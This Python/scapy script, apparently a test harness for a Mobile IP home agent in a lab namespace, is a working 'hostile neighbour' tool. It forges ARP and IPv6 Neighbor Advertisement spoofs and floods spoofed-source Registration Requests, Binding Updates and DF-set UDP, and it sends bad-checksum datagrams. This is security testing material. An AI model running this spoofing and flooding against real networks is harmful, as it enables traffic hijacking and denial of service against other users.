#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A hostile neighbour on the lab's home link, built on scapy.

    hostile.py arp --iface eth0 --op reply|request --claim 192.0.2.254 \\
        --mac 02:00:00:00:00:0a [--to-ip 192.0.2.1 --to-mac ...] [--count N]
        forged ARP: "claim is at mac", to one host (reply) or broadcast
        (a gratuitous request when --to-ip is the claimed address)
    hostile.py rrq-flood --iface eth0 --dst 192.0.2.1 --count 2000 \\
        [--src-net 192.0.2.0/24] [--rate 0]
        Registration Requests from spoofed sources of src-net, for random
        home addresses of it, with a random authenticator (each draws a
        denial, 131)
        With --seconds S: the --count frames over and over for S seconds
        through a raw socket, as fast as it goes (prints the rate).
    hostile.py mh-flood --iface eth0 --dst 2001:db8:1::1 --count 1100 \\
        --src-net 2001:db8:1::/64
        Binding Updates from spoofed sources of an IPv6 prefix (each draws
        a Binding Acknowledgement toward its source: one neighbour to
        resolve each)
    hostile.py na-flood --iface eth0 --count 3000 \
        --src-net 2001:db8:1::/64 [--claim 2001:db8:1::100]
        unsolicited Neighbor Advertisements to all nodes, each from a
        spoofed address of the prefix about itself (what every host of a
        busy link announces), then with --claim one claiming that address
        with the attacker's MAC
    hostile.py df-flood --iface eth0 --src 192.0.2.10 --dst 192.0.2.100 \
        --size 1500 --count 300
        UDP datagrams of size bytes (IP header included) with DF, from each
        --src in turn (any address, broadcast ones too)
    hostile.py udp --iface eth0 --src 198.51.100.10 --dst 192.0.2.1 \\
        --dport 434 --hex <payload> --bad-checksum
        one UDP datagram with a wrong (non-zero) checksum

Nothing here shares code with haven. Runs in the attacker's namespace
(ip netns exec <p>-ch ...). Prints one JSON line: what was sent.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

from scapy.all import (ARP, Ether, IP, IPv6, UDP, Raw, conf, sendp,
                       get_if_hwaddr)

conf.verb = 0


def arp(a):
    mac = a.mac or get_if_hwaddr(a.iface)
    op = 2 if a.op == "reply" else 1
    to_ip = a.to_ip or a.claim
    to_mac = a.to_mac or "ff:ff:ff:ff:ff:ff"
    eth_dst = to_mac if op == 2 and a.to_mac else "ff:ff:ff:ff:ff:ff"
    pkt = Ether(src=mac, dst=eth_dst) / ARP(
        op=op, hwsrc=mac, psrc=a.claim,
        hwdst=to_mac if op == 2 else "00:00:00:00:00:00", pdst=to_ip)
    sendp(pkt, iface=a.iface, count=a.count, inter=a.interval)
    return {"sent": a.count, "claim": a.claim, "mac": mac}


def hosts(net, n, avoid=()):
    """n pseudo-random host addresses of net, none in avoid."""
    net = ipaddress.ip_network(net)
    rnd = random.Random(0x68617665)
    out = []
    span = net.num_addresses - 2
    while len(out) < n:
        h = net.network_address + 1 + rnd.randrange(span)
        if str(h) not in avoid:
            out.append(str(h))
    return out


def rrq_flood(a):
    """Registration Requests (RFC 5944 3.3) with an MN-HA extension whose
    authenticator is random: for spoofed sources and home addresses."""
    mac = get_if_hwaddr(a.iface)
    srcs = hosts(a.src_net, a.count, avoid=set(a.avoid or []))
    frames = []
    for i, src in enumerate(srcs):
        hoa = srcs[(i * 7 + 3) % len(srcs)]
        ident = (random.getrandbits(32) << 32) | i
        rrq = struct.pack("!BBH4s4s4sQ", 1, 0, 60,
                          ipaddress.ip_address(hoa).packed,
                          ipaddress.ip_address(a.dst).packed,
                          ipaddress.ip_address(src).packed, ident)
        ext = struct.pack("!BBI", 32, 4 + 16, 256) + os.urandom(16)
        frames.append(Ether(src=mac, dst=a.dst_mac) /
                      IP(src=src, dst=a.dst) /
                      UDP(sport=434, dport=434) / Raw(rrq + ext))
    return send_frames(a, frames)


def send_frames(a, frames):
    """The frames once through scapy, or with --seconds in a loop for that
    long through a raw socket, as fast as it goes (or at --rate)."""
    if not a.seconds:
        sendp(frames, iface=a.iface,
              inter=(1.0 / a.rate) if a.rate else 0)
        return {"sent": len(frames)}
    raw = [bytes(f) for f in frames]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    send, n = s.send, len(raw)
    sent, t0 = 0, time.monotonic()
    end, gap = t0 + a.seconds, (1.0 / a.rate) if a.rate else 0.0
    while time.monotonic() < end:
        for _ in range(256 if gap == 0 else 1):
            try:
                send(raw[sent % n])
                sent += 1
            except BlockingIOError:
                pass
        if gap:
            time.sleep(max(0.0, t0 + sent * gap - time.monotonic()))
    secs = time.monotonic() - t0
    s.close()
    return {"sent": sent, "seconds": round(secs, 3),
            "rate": round(sent / secs, 1)}


def mh_flood(a):
    """Binding Updates (RFC 6275 6.1.7) from spoofed sources, each for its
    source as home address: no Home Address option, A and H set, no
    authentication option (each is refused, and answered)."""
    mac = get_if_hwaddr(a.iface)
    srcs = hosts(a.src_net, a.count, avoid=set(a.avoid or []))
    frames = []
    for i, src in enumerate(srcs):
        # MH: payload proto 59, hdr len 1 (16 bytes), type 5, reserved,
        # checksum, sequence, flags A|H, lifetime 15 (4 s units), PadN 4
        body = struct.pack("!BBBBHHHH", 59, 1, 5, 0, 0, i & 0xffff,
                           0xc000, 15) + b"\x01\x02\x00\x00"
        pkt = IPv6(src=src, dst=a.dst, nh=135) / Raw(body)
        raw = bytearray(bytes(pkt))
        # the checksum over the IPv6 pseudo-header (RFC 6275 6.1.1)
        mh = raw[40:]
        pseudo = raw[8:40] + struct.pack("!IxxxB", len(mh), 135)
        data = pseudo + mh
        s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
        while s >> 16:
            s = (s & 0xffff) + (s >> 16)
        struct.pack_into("!H", raw, 44, ~s & 0xffff)
        frames.append(Ether(src=mac, dst=a.dst_mac) / IPv6(bytes(raw)))
    return send_frames(a, frames)


def na_flood(a):
    """Unsolicited NAs (RFC 4861 4.4, 7.2.6): O set, S clear, to ff02::1,
    hop limit 255, a target link-layer address option (the attacker's
    MAC). Built with scapy's ICMPv6 classes."""
    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr
    mac = get_if_hwaddr(a.iface)

    def na(target):
        return Ether(src=mac, dst="33:33:00:00:00:01") / \
            IPv6(src=target, dst="ff02::1", hlim=255) / \
            ICMPv6ND_NA(R=0, S=0, O=1, tgt=target) / \
            ICMPv6NDOptDstLLAddr(lladdr=mac)

    frames = [na(t) for t in hosts(a.src_net, a.count,
                                   avoid=set(a.avoid or []))]
    if a.claim:
        frames.append(na(a.claim))
    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
    return {"sent": len(frames), "mac": mac}


def df_flood(a):
    """Datagrams too big to tunnel without fragmenting, DF set: each
    draws an ICMP fragmentation needed, if the agent sends one."""
    mac = get_if_hwaddr(a.iface)
    pad = b"\xa5" * (a.size - 28)
    frames = [Ether(src=mac, dst=a.dst_mac) /
              IP(src=a.src[i % len(a.src)], dst=a.dst, flags="DF") /
              UDP(sport=40000, dport=9) / Raw(pad) for i in range(a.count)]
    sendp(frames, iface=a.iface, inter=(1.0 / a.rate) if a.rate else 0)
    return {"sent": len(frames)}


def udp(a):
    """One UDP datagram; with --bad-checksum its checksum is wrong but not
    zero (zero would mean "no checksum", RFC 768)."""
    mac = get_if_hwaddr(a.iface)
    payload = bytes.fromhex(a.hex)
    dgram = UDP(sport=a.sport, dport=a.dport) / Raw(payload)
    good = UDP(bytes(IP(src=a.src, dst=a.dst) / dgram)[20:]).chksum
    ck = good
    if a.bad_checksum:
        ck = (good ^ 0x5a5a) or 1
    pkt = Ether(src=mac, dst=a.dst_mac) / IP(src=a.src, dst=a.dst) / \
        UDP(sport=a.sport, dport=a.dport, chksum=ck) / Raw(payload)
    sendp(pkt, iface=a.iface)
    return {"sent": 1, "checksum": ck, "good": good}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("arp")
    c.add_argument("--iface", required=True)
    c.add_argument("--op", choices=("reply", "request"), default="reply")
    c.add_argument("--claim", required=True)
    c.add_argument("--mac")
    c.add_argument("--to-ip")
    c.add_argument("--to-mac")
    c.add_argument("--count", type=int, default=1)
    c.add_argument("--interval", type=float, default=0.0)
    for name in ("rrq-flood", "mh-flood"):
        c = sub.add_parser(name)
        c.add_argument("--iface", required=True)
        c.add_argument("--dst", required=True)
        c.add_argument("--dst-mac", required=True)
        c.add_argument("--count", type=int, default=1000)
        c.add_argument("--src-net", required=True)
        c.add_argument("--avoid", nargs="*")
        c.add_argument("--rate", type=float, default=0.0)
        c.add_argument("--seconds", type=float, default=0.0,
                       help="send the --count frames over and over for "
                       "this long through a raw socket")
    c = sub.add_parser("na-flood")
    c.add_argument("--iface", required=True)
    c.add_argument("--count", type=int, default=1000)
    c.add_argument("--src-net", required=True)
    c.add_argument("--avoid", nargs="*")
    c.add_argument("--claim")
    c.add_argument("--rate", type=float, default=0.0)
    c = sub.add_parser("df-flood")
    c.add_argument("--iface", required=True)
    c.add_argument("--src", required=True, nargs="+")
    c.add_argument("--dst", required=True)
    c.add_argument("--dst-mac", required=True)
    c.add_argument("--size", type=int, default=1500)
    c.add_argument("--count", type=int, default=100)
    c.add_argument("--rate", type=float, default=0.0)
    c = sub.add_parser("udp")
    c.add_argument("--iface", required=True)
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--dst-mac", required=True)
    c.add_argument("--sport", type=int, default=434)
    c.add_argument("--dport", type=int, default=434)
    c.add_argument("--hex", required=True)
    c.add_argument("--bad-checksum", action="store_true")
    a = p.parse_args()
    fn = {"arp": arp, "rrq-flood": rrq_flood, "mh-flood": mh_flood,
          "na-flood": na_flood, "df-flood": df_flood,
          "udp": udp}[a.cmd]
    print(json.dumps(fn(a)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
